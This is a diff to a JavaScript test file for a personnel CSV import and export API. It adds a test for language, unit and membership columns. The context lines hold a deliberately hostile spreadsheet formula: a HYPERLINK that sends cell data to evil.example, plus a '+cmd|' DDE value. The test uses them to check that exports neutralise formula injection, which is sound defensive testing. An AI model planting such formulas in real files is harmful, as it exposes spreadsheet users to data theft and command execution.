@@ -179,6 +179,59 @@ test('an IIN registered outside a scoped importer\'s region is refused without n
   assert.match(a.body.report.problems[0].message, /already registered \(person \d+\)/);
 });
 
+test('a file brings each person\'s language and unit: members are counted in the unit\'s strength', async () => {
+  const east = (await admin.get('/api/v1/regions')).body.items.find((r) => r.code === 'IMP-EAST');
+  const west = (await admin.get('/api/v1/regions')).body.items.find((r) => r.code === 'IMP-WEST');
+  const unit = (await admin.post('/api/v1/units', { name: 'Импорттық рота', kind: 'territorial_troops', region_id: east.id, status: 'active' })).body;
+  const westUnit = (await admin.post('/api/v1/units', { name: 'Батыс ротасы', kind: 'territorial_troops', region_id: west.id, status: 'active' })).body;
+  const header = HEADER + ',language,unit_id,position,member_from';
+  const text = [header,
+    row({ family: 'Тілеуова', given: 'Мөлдір' }) + `,ru,${unit.id},driver,2026-01-15`,
+    row({ family: 'Тілеуов', given: 'Бауыржан' }) + `,en,${unit.id},medic,`,
+    row({ family: 'Тілеуұлы', given: 'Арман' }) + ',,,,'].join('\n');
+  const r = await upload('/api/v1/people/import', text);
+  assert.equal(r.status, 201, JSON.stringify(r.body));
+  assert.equal(r.body.stored, 3);
+  const people = (await admin.get(`/api/v1/people?q=${encodeURIComponent('Тілеу')}&limit=10`)).body.items;
+  const byName = Object.fromEntries(people.map((p) => [p.given_name, p]));
+  assert.equal(byName['Мөлдір'].language, 'ru');
+  assert.equal(byName['Бауыржан'].language, 'en');
+  assert.equal(byName['Арман'].language ?? null, null);
+  const m = (await admin.get(`/api/v1/people/${byName['Мөлдір'].id}/memberships`)).body;
+  const list = m.items ?? m;
+  assert.equal(list.length, 1);
+  assert.equal(list[0].unit_id, unit.id);
+  assert.equal(list[0].position, 'driver');
+  assert.equal(list[0].from, '2026-01-15');
+  const today = new Date().toISOString().slice(0, 10);
+  const m2 = (await admin.get(`/api/v1/people/${byName['Бауыржан'].id}/memberships`)).body;
+  assert.equal((m2.items ?? m2)[0].from, today);
+  const strength = (await admin.get(`/api/v1/units/${unit.id}/strength`)).body;
+  assert.equal(JSON.stringify(strength).includes('driver'), true, JSON.stringify(strength));
+
+  const hq = await server.account(admin, 'hq-imp-units', 'hq_staff', { region: 'IMP-EAST' });
+  // An unknown unit, a unit outside a scoped importer's region, a position without a unit, a unit
+  // without a position and a bad date are named by row and column; nothing is stored.
+  const before = snapshot();
+  const bad = [header,
+    row() + ',kk,999999,driver,',
+    row() + `,kk,${unit.id},,`,
+    row() + ',kk,,driver,',
+    row() + `,kk,${unit.id},cook,2026-02-30`,
+    row() + `,xx,${unit.id},cook,`].join('\n');
+  const r2 = await upload('/api/v1/people/import', bad);
+  assert.equal(r2.status, 422);
+  assert.deepEqual(r2.body.report.problems.map((p) => [p.row, p.column]),
+    [[2, 'unit_id'], [3, 'position'], [4, 'unit_id'], [5, 'member_from'], [6, 'language']]);
+  assert.match(r2.body.report.problems[0].message, /no unit has id 999999/);
+  assert.equal(snapshot(), before);
+  const r3 = await hq.call('POST', '/api/v1/people/import', [header, row() + `,kk,${westUnit.id},cook,`].join('\n'),
+    { 'content-type': 'text/csv; charset=utf-8' });
+  assert.equal(r3.status, 422);
+  assert.deepEqual(r3.body.report.problems.map((p) => [p.row, p.column]), [[2, 'unit_id']]);
+  assert.equal(snapshot(), before);
+});
+
 test('the CLI imports, dry-runs, rejects with every bad row and exports what it imported', async () => {
   const file = join(server.db.dir, 'people.csv');
   // A name a spreadsheet would run as a formula (fictional, hostile on purpose).
@@ -218,11 +271,12 @@ test('the CLI imports, dry-runs, rejects with every bad row and exports what it 
   const exported = readFileSync(out, 'utf8').split('\r\n');
   // Formulas are written as text (a leading apostrophe), and come back unchanged below.
   assert.ok(exported.some((l) => l.startsWith('"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",\'+cmd|')), exported.find((l) => l.includes('HYPERLINK')));
-  assert.equal(exported[0], 'family_name,given_name,patronymic,birth_date,iin,phone,email,region,status,skills');
+  assert.equal(exported[0], 'family_name,given_name,patronymic,birth_date,iin,phone,email,region,status,skills,language');
+  assert.ok(exported.some((l) => l.startsWith('Тілеуова,') && l.endsWith(',ru')));
   const total = Number(sql(server.db.url, 'SELECT COUNT(*) FROM people'));
   assert.equal(exported.filter((l) => l).length, total + 1);
   assert.ok(exported.some((l) => l.startsWith('"Құрманғазы, ""Төре""",Әлия,')));
-  assert.ok(exported.some((l) => l.startsWith('Клиев,') && l.endsWith(',radio||')));
+  assert.ok(exported.some((l) => l.startsWith('Клиев,') && l.endsWith(',radio||,')));
   // An export re-imports into an empty database.
   const fresh = await startServer();
   try {
